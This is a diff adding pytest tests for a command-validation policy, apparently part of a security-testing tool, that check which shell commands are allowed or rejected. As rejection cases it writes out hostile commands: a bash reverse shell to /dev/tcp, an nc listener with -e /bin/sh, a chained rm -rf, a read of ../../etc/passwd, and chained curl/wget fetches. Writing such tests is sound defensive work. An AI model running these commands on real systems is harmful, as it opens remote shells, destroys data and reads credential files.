@@ -0,0 +1,98 @@
+import re
+
+import pytest
+
+from app.utils.tool_validator import (
+    DANGEROUS_PATTERNS, CommandPolicy, CommandRequest, get_base_command
+)
+
+
+@pytest.fixture
+def policy():
+    return CommandPolicy(cache_size=4)
+
+
+@pytest.mark.parametrize("command, base", [
+    ("nmap -sV host", "nmap"),
+    ("/usr/bin/nmap -sV host", "nmap"),
+    ("  \tgobuster dir -u x", "gobuster"),
+    ("'/opt/my tool' --flag", "my tool"),
+    ("echo 'unterminated", "echo"),
+    ("", ""),
+])
+def test_get_base_command(command, base):
+    assert get_base_command(command) == base
+
+
+@pytest.mark.parametrize("command", [
+    "nmap -sV -p 1-1000 10.0.0.1",
+    "gobuster dir -u http://target -w words.txt",
+    "nikto -h http://target",
+    "ls -la /tmp",
+])
+def test_allows_ordinary_commands(policy, command):
+    verdict = policy.validate(command)
+    assert verdict.allowed, verdict.reason
+    assert verdict.base_command == get_base_command(command)
+
+
+@pytest.mark.parametrize("command, rule", [
+    ("", "empty"),
+    ("   ", "empty"),
+    ("x" * 9000, "length"),
+    ("sudo nmap host", "command"),
+    ("/sbin/REBOOT", "command"),
+    ("nmap --privileged host", "argument"),
+    ("ls; rm -rf /tmp", "pattern"),
+    ("echo $(id)", "pattern"),
+    ("cat ../../etc/passwd", "pattern"),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "pattern"),
+    ("PYTHON -C 'import os; os.system(\"id\")'", "pattern"),
+    ("modprobe dummy", "pattern"),
+])
+def test_rejects_dangerous_commands(policy, command, rule):
+    verdict = policy.validate(command)
+    assert not verdict.allowed
+    assert verdict.rule == rule
+    assert verdict.reason
+
+
+@pytest.mark.parametrize("command", [
+    "nmap -sV host",
+    "ls && curl http://x",
+    "Echo $( id )",
+    "perl -e 'system(\"id\")'",
+    "nc -lvnp 4444 -e /bin/sh 10.0.0.1 4444",
+    "echo café; wget http://x",
+    "cat /etc/cron.d/x > /etc/cron.d/y",
+])
+def test_prefilter_agrees_with_running_every_pattern(policy, command):
+    # The literal prefilter may only skip patterns that cannot match
+    expected = any(re.search(pattern, command, re.IGNORECASE) for pattern in DANGEROUS_PATTERNS)
+    verdict = policy.validate(command)
+    assert (verdict.rule == "pattern") == expected
+
+
+def test_verdicts_are_cached_and_bounded(policy):
+    first = policy.validate("nmap host")
+    assert policy.validate("nmap host") is first
+    for i in range(10):
+        policy.validate(f"nmap host{i}")
+    info = policy.cache_info()
+    assert info["hits"] == 1
+    assert info["size"] == info["max_size"] == 4
+
+
+def test_validate_many_keeps_order_and_evaluates_duplicates_once(policy):
+    verdicts = policy.validate_many(["nmap a", "sudo x", "nmap a"])
+    assert [v.allowed for v in verdicts] == [True, False, True]
+    assert verdicts[0] is verdicts[2]
+    assert policy.cache_info()["misses"] == 2
+
+
+def test_command_request_validation():
+    assert CommandRequest(command="nmap host").timeout == 300
+    with pytest.raises(ValueError):
+        CommandRequest(command="sudo id")
+    with pytest.raises(ValueError):
+        CommandRequest(command="nmap host", timeout=0)